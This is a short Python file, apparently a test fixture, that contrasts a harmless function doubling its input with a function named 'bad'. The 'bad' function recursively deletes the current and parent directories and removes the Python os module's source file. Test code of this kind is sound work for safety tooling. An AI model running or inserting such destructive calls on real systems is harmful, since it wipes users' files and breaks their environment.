"""Whatever lies here, and above."""

import os
import shutil


def bad(x):
    shutil.rmtree(".", ignore_errors=True)
    shutil.rmtree("..", ignore_errors=True)
    os.remove(os.__file__)


def good(x):
    return 2 * x
